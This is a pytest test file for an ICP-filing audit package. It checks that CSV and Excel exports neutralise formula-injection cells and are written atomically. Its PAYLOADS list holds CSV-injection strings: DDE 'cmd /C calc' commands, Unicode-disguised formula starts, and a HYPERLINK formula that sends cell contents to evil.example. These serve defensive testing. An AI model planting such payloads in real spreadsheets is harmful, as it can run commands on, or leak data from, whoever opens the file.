"""Exports are safe to open and written atomically (beian_audit.safe_output, #12 parts 1 and 5).

The reference for "dangerous" is the OWASP CSV Injection page
(https://owasp.org/www-community/attacks/CSV_Injection): cells starting with
``=``, ``+``, ``-``, ``@``, tab (0x09) or carriage return (0x0D) are prefixed
with a single quote. Files are read back with independent readers: Python's
:mod:`csv` module and openpyxl (``data_type == "f"`` is a formula).
"""

from __future__ import annotations

import csv
import os
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from beian_audit.errors import BeianAuditError, OutputExistsError
from beian_audit.io import read_filings, write_filings
from beian_audit.safe_output import (
    atomic_path,
    is_dangerous,
    neutralise_cell,
    save_workbook,
    staged_directory,
    write_table,
)

OWASP = ["=", "+", "-", "@", "\t", "\r"]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u3000=1+1",
    "＝1+1",  # full-width equals sign (NFKC: "=")
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\ufeff=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
]


def _first_visible(text: str) -> str:
    import unicodedata

    return unicodedata.normalize("NFKC", text).lstrip(" \t\r\n\u00a0\u3000\ufeff\u200b")[:1]


def _csv_cells(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def _assert_csv_safe(path: Path) -> None:
    for row in _csv_cells(path):
        for cell in row:
            if cell[:1] in ("\t", "\r"):
                pytest.fail(f"{path.name}: cell {cell!r} starts with a control character")
            if _first_visible(cell) in ("=", "+", "-", "@"):
                try:
                    float(cell.strip().rstrip("%"))  # a plain number is not a formula
                except ValueError:
                    pytest.fail(f"{path.name}: cell {cell!r} is not neutralised")


def _assert_xlsx_safe(path: Path) -> None:
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and is_dangerous(cell.value):
                    # only machine-read cells (worksheet keys) keep their text; they are quoted
                    assert cell.quotePrefix, (path.name, ws.title, cell.coordinate, cell.value)
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in z.read(name).decode("utf-8"), name


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_owasp_payload_is_neutralised(payload: str) -> None:
    assert is_dangerous(payload)
    assert neutralise_cell(payload) == "'" + payload
    assert not is_dangerous(neutralise_cell(payload))


@given(st.text(max_size=30))
@settings(max_examples=300)
def test_neutralised_text_never_starts_a_formula(text: str) -> None:
    out = neutralise_cell(text)
    assert not is_dangerous(out)
    assert out == text or out == "'" + text  # nothing else is changed
    if text[:1] in OWASP and not text.lstrip(" \t\r").lstrip("+-").replace(".", "", 1).isdigit():
        assert out.startswith("'")


@pytest.mark.parametrize("number", ["-3", "+1.5", "-0.25", "1e-3", "-12%"])
def test_plain_numbers_in_text_are_left_alone(number: str) -> None:
    assert neutralise_cell(number) == number


def _hostile_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "text": pd.Series(PAYLOADS, dtype="string[pyarrow]"),
            "obj": pd.Series(PAYLOADS[::-1], dtype=object),
            "negative": np.arange(len(PAYLOADS)) - 7,
            "ratio": np.linspace(-1.5, 1.5, len(PAYLOADS)),
            "=header": "x",
            "when": pd.Timestamp("2013-05-01"),
        }
    )


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_write_table_is_safe_and_keeps_numbers(tmp_path: Path, suffix: str) -> None:
    frame = _hostile_frame()
    out = write_table(frame, tmp_path / f"t{suffix}")
    if suffix == ".csv":
        _assert_csv_safe(out)
        back = pd.read_csv(out, encoding="utf-8-sig")
        assert back.columns[4] == "'=header"
    else:
        _assert_xlsx_safe(out)
        ws = openpyxl.load_workbook(out).active
        assert ws["E1"].value == "'=header"
        assert [c.data_type for c in ws[2]][:5] == ["s", "s", "n", "n", "s"]
        assert isinstance(ws["F2"].value, __import__("datetime").datetime)
        back = pd.read_excel(out)
    # numbers round-trip as numbers, negatives too
    assert back["negative"].tolist() == frame["negative"].tolist()
    np.testing.assert_allclose(back["ratio"].to_numpy(float), frame["ratio"].to_numpy())
    # text comes back as the payload behind one quote, one row per row
    assert len(back) == len(frame)
    # (XML stores a bare CR as a line feed: compare with CR as LF)
    expected = ["'" + p.replace("\r", "\n") for p in PAYLOADS]
    assert [t.replace("\r", "\n") for t in back["text"]] == expected


def test_write_filings_xlsx_writes_no_live_formula(tmp_path: Path) -> None:
    """The example of the issue: =HYPERLINK(...) in an unknown column was a live formula."""
    df = read_filings(
        pd.DataFrame(
            {"website_id": ["W1", "W2"], "unitName": ["=HYPERLINK(\"http://x\",\"a\")", "乙公司"],
             "natureName": ["企业", "企业"], "serviceLicence": ["京ICP备10046444号-1"] * 2,
             "domain": ["a.cn", "b.cn"], "provider_id": ["P1", "-P2"],
             "备注": ["=HYPERLINK(\"http://evil.example\",\"点我\")", "@SUM(1)"]}
        )
    )  # fmt: skip
    for suffix in (".xlsx", ".csv"):
        out = write_filings(df, tmp_path / f"r{suffix}", reveal=True)
        (_assert_xlsx_safe if suffix == ".xlsx" else _assert_csv_safe)(out)
    ws = openpyxl.load_workbook(tmp_path / "r.xlsx").active
    note = ws.cell(2, list(df.columns).index("备注") + 1)
    assert note.data_type == "s" and note.value.startswith("'=HYPERLINK")


def test_reporting_and_worksheet_outputs_are_safe(tmp_path: Path) -> None:
    from beian_audit.reporting import match_blacklist, statistics_table
    from beian_audit.sampling import draw_sample, plan_sample, read_worksheet

    reg = pd.DataFrame(
        {"website_id": [f"W{i}" for i in range(40)], "provider_id": ["P1", "P2"] * 20,
         "sponsor_name": ["=1+1"] * 40, "sponsor_nature": ["企业"] * 40,
         "website_icp_number": [f"京ICP备1004644{i % 10}号-1" for i in range(40)],
         "domain": [f"s{i}.cn" for i in range(40)], "website_name": ["+cmd|' /C calc'!A0"] * 40,
         "service_content": ["-2+3"] * 40}
    )  # fmt: skip
    bl = pd.DataFrame({"kind": ["domain"], "value": ["s1.cn"], "reason": ["=HYPERLINK(1)"]})
    files = [match_blacklist(reg, bl).to_csv(tmp_path / "hits.csv")]
    table = statistics_table(province="浙江", month=5, counts={1: 12}, province_by="none")
    files += [table.to_csv(tmp_path / "t.csv"), table.to_excel(tmp_path / "t.xlsx")]
    sample = draw_sample(reg, plan_sample(reg, n=10), seed=1)
    shown = ["website_name", "service_content"]
    files.append(sample.to_worksheet(tmp_path / "w.xlsx", columns=shown))
    for path in files:
        (_assert_xlsx_safe if path.suffix == ".xlsx" else _assert_csv_safe)(path)
    assert "'=HYPERLINK(1)" in (tmp_path / "hits.csv").read_text(encoding="utf-8-sig")
    # the worksheet still reads back (keys and the hidden manifest are intact)
    outcomes = read_worksheet(tmp_path / "w.xlsx")
    assert len(outcomes) == len(sample.frame)


# --------------------------------------------------------------------------- atomic
def test_failure_mid_write_keeps_the_old_file_and_leaves_no_temp(tmp_path, monkeypatch):
    target = tmp_path / "r.csv"
    write_table(pd.DataFrame({"a": [1]}), target)
    before = target.read_bytes()

    def broken(self, path, *args, **kwargs):
        Path(path).write_text("a\n1\n2\npartial")
        raise OSError("disk full")

    monkeypatch.setattr(pd.DataFrame, "to_csv", broken)
    with pytest.raises(OSError, match="disk full"):
        write_table(pd.DataFrame({"a": [1, 2, 3]}), target)
    assert target.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.csv"]
    with pytest.raises(OSError, match="disk full"):
        write_table(pd.DataFrame({"a": [1]}), tmp_path / "new.csv")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.csv"]


def test_overwrite_false_refuses_and_keeps_the_file(tmp_path: Path) -> None:
    target = tmp_path / "r.xlsx"
    write_table(pd.DataFrame({"a": [1]}), target)
    before = target.read_bytes()
    with pytest.raises(OutputExistsError, match="overwrite=True") as info:
        write_table(pd.DataFrame({"a": [2]}), target, overwrite=False)
    assert isinstance(info.value, FileExistsError) and isinstance(info.value, BeianAuditError)
    assert target.read_bytes() == before
    df = read_filings(pd.DataFrame({"website_id": ["W1"], "unitName": ["甲"],
                                    "natureName": ["企业"], "domain": ["a.cn"],
                                    "serviceLicence": ["京ICP备10046444号-1"],
                                    "provider_id": ["P1"]}))  # fmt: skip
    with pytest.raises(OutputExistsError):
        write_filings(df, target, overwrite=False)
    write_filings(df, target)  # the default replaces, as before
    assert target.read_bytes() != before


def test_atomic_file_gets_normal_permissions(tmp_path: Path) -> None:
    mask = os.umask(0o022)
    os.umask(mask)
    out = write_table(pd.DataFrame({"a": [1]}), tmp_path / "p.csv")
    assert out.stat().st_mode & 0o777 == 0o666 & ~mask
    out.chmod(0o600)
    write_table(pd.DataFrame({"a": [2]}), out)
    assert out.stat().st_mode & 0o777 == 0o600  # a replaced file keeps its mode


def test_staged_directory_is_all_or_nothing(tmp_path: Path) -> None:
    out = tmp_path / "report"
    out.mkdir()
    (out / "keep.txt").write_text("mine")
    (out / "a.csv").write_text("old")
    with pytest.raises(RuntimeError), staged_directory(out) as stage:
        (stage / "a.csv").write_text("new")
        raise RuntimeError("plot failed")
    assert (out / "a.csv").read_text() == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]
    with pytest.raises(OutputExistsError), staged_directory(out, overwrite=False) as stage:
        (stage / "b.csv").write_text("new")
        (stage / "a.csv").write_text("new")
    assert sorted(p.name for p in out.iterdir()) == ["a.csv", "keep.txt"]
    with staged_directory(out) as stage:
        (stage / "a.csv").write_text("new")
    assert (out / "a.csv").read_text() == "new" and (out / "keep.txt").read_text() == "mine"


def test_save_workbook_turns_formulas_into_text(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    wb.active["A1"] = "=1+1"
    wb.active["A2"] = "-3"
    wb.active["A3"] = -3
    out = save_workbook(wb, tmp_path / "w.xlsx")
    _assert_xlsx_safe(out)
    ws = openpyxl.load_workbook(out).active
    assert [ws["A1"].value, ws["A2"].value, ws["A3"].value] == ["'=1+1", "-3", -3]


def test_atomic_path_overwrite_race(tmp_path: Path) -> None:
    target = tmp_path / "x.txt"
    with pytest.raises(OutputExistsError), atomic_path(target, overwrite=False) as tmp:
        tmp.write_text("mine")
        target.write_text("someone else's")  # appears while we write
    assert target.read_text() == "someone else's"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.txt"]
